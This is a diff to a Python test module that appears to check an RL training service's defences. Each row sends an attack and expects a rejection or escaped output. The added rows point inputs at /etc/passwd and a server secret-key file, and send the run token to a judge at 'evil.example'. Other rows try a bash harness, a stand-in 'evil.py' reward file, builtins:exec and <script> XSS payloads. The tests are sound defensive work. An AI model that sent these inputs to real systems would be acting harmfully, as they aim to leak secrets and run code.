@@ -1,9 +1,9 @@
-"""The attack table (issue 16, README "Reliability and security" / "Attacks"): one row per attack, each sent to the
+"""The attack table (docs/reliability-and-security.md, "Attacks"): one row per attack, each sent to the
 real app (Postgres, Redis) and answered with an exact status and a one-line answer that names the key.
 
 Every row is an :class:`Attack`: what an attacker tries, the route, and the answer expected (status and the start
 of the one-line ``detail``; ``{run}``, ``{owner}``, ... stand for the module's ids and names). The same table is
-``benchmarks/results/attacks.json`` and the README's table: :func:`test_the_table_is_the_results_file_and_the_readme`
+``benchmarks/results/attacks.json`` and the docs page's table: :func:`test_the_table_is_the_results_file_and_the_readme`
 fails when either differs from this module (``python -m tests.service.test_attacks`` rewrites both).
 
 The actors: ``alice`` (member) owns a running run with a checkpoint, a completed run, a run rule, a global rule and
@@ -33,7 +33,7 @@ from tests.support.webui import login
 
 ROOT = Path(__file__).resolve().parents[2]
 RESULTS = ROOT / "benchmarks/results/attacks.json"
-README = ROOT / "README.md"
+README = ROOT / "docs" / "reliability-and-security.md"
 
 
 @dataclass
@@ -53,7 +53,7 @@ class Ctx:
 @dataclass(frozen=True)
 class Attack:
     attack: str
-    """What is tried (the README's first column)."""
+    """What is tried (the table's first column)."""
     route: str
     status: int
     answer: str
@@ -184,15 +184,27 @@ def symlink_model(c: Ctx) -> Any:
     return submit(**{"model.name": str(link)})(c)
 
 
+def allowed_package_env(c: Ctx) -> Any:
+    """An environment of an allowed package (``ALLOWED_CODE_PACKAGES``) with arguments, from a member."""
+    from server.core.config import settings
+
+    before = settings.ALLOWED_CODE_PACKAGES
+    settings.ALLOWED_CODE_PACKAGES = ["asyncrl_example_plugins"]
+    try:
+        return submit(**{"env.id": "asyncrl_example_plugins.envs:make", "env.args": {"prompt_file": "/etc/passwd"}})(c)
+    finally:
+        settings.ALLOWED_CODE_PACKAGES = before
+
+
 def xss_page(payload_at: str) -> Callable[[Ctx], Any]:
-    """Store ``<script>`` through ``payload_at`` (a run's env.args value, a status reason, a webhook name), then read
+    """Store ``<script>`` through ``payload_at`` (a run's spec value, a status reason, a webhook name), then read
     the dashboard page that shows it: the answer is whether it came back escaped."""
     payload = f"<script>alert('{secrets.token_hex(3)}')</script>"
 
     def send(c: Ctx) -> Any:
         client, _ = c.web["alice"]
-        if payload_at == "env.args":
-            run = submit(**{"env.args": {"note": payload}})(c).json()
+        if payload_at == "spec":
+            run = submit(**{"monitor.wandb.project": payload})(c).json()
             page = client.get("/compare", params={"run": [run["id"], c.ids["run"]]})  # the spec keys that differ
         elif payload_at == "reason":
             run = submit()(c).json()
@@ -301,6 +313,50 @@ CODE = [
         422,
         "env.id: 'builtins:exec' " + NOT_ALLOWED,
         submit(**{"env.id": "builtins:exec"}),
+    ),
+    Attack(
+        "env.args: a reward function from a .py file (verifiers executes it)",
+        "POST /api/runs",
+        422,
+        "env.args.task: not an argument a submitted spec may give 'reverse_text'; allowed: max_chars, min_chars, "
+        "num_eval, num_train, system_message",
+        submit(**{"env.args": {"task": {"rewards": {"r": {"fn": "path/to/evil.py:f"}}}}}),
+    ),
+    Attack(
+        "env.args.system_prompt = the server's secret key file (read into every prompt)",
+        "POST /api/runs",
+        422,
+        "env.args.system_prompt: not an argument a submitted spec may give 'reverse_text'",
+        submit(**{"env.args": {"system_prompt": "/root/.asyncrl/secret_key"}}),
+    ),
+    Attack(
+        "env.args: a judge at an address of the submitter's, sent the run token",
+        "POST /api/runs",
+        422,
+        "env.args.task: not an argument a submitted spec may give 'reverse_text'",
+        submit(
+            **{
+                "env.args": {
+                    "task": {
+                        "judges": [{"id": "j", "base_url": "http://evil.example", "api_key_var": "ASYNCRL_RUN_TOKEN"}]
+                    }
+                }
+            }
+        ),
+    ),
+    Attack(
+        "env.args of an installed package's environment, from a member",
+        "POST /api/runs",
+        422,
+        "env.args: environment 'asyncrl_example_plugins.envs:make' declares no arguments the service can check",
+        allowed_package_env,
+    ),
+    Attack(
+        "orchestrator.harness.id = bash (model-written shell commands), from a member",
+        "POST /api/runs",
+        422,
+        "orchestrator.harness.id: 'bash' runs model-written commands or an agent program on the worker; allowed: null",
+        submit(**{"orchestrator.harness.id": "bash"}),
     ),
     Attack(
         "env.id = an installed package not allowed (pickle:loads)",
@@ -1062,7 +1118,7 @@ XSS = [
         "GET /compare",
         200,
         "escaped: &lt;script&gt;",
-        xss_page("env.args"),
+        xss_page("spec"),
     ),
     Attack(
         "<script> in a status reason (run token)", "GET /runs/{id}", 200, "escaped: &lt;script&gt;", xss_page("reason")
@@ -1318,7 +1374,7 @@ def results() -> list[dict[str, str]]:
 
 
 def readme_table() -> str:
-    """The README's ``### Attacks`` table: attack (and its route), answer (status and the start of the one line)."""
+    """The docs page's ``### Attacks`` table: attack (and its route), answer (status and the start of the one line)."""
     rows = ["| attack | answer |", "|---|---|"]
     for r in results():
         attack = r["attack"].replace("|", "/")
@@ -1331,11 +1387,11 @@ def test_the_table_is_the_results_file_and_the_readme() -> None:
     assert readme_table() in README.read_text()
 
 
-if __name__ == "__main__":  # rewrite the results file and the README table from this module
+if __name__ == "__main__":  # rewrite the results file and the docs page's table from this module
     RESULTS.write_text(json.dumps({"attacks": results(), "count": len(ATTACKS)}, indent=1) + "\n")
     text = README.read_text()
     start = text.index("| attack | answer |")
     end = text.index("\n\n", start)
     README.write_text(text[:start] + readme_table() + text[end:])
     shutil.rmtree(STATE, ignore_errors=True)  # the state folder tests.support.server made on import
-    sys.stdout.write(f"{len(ATTACKS)} attacks written to {RESULTS} and README.md\n")
+    sys.stdout.write(f"{len(ATTACKS)} attacks written to {RESULTS} and {README.relative_to(ROOT)}\n")
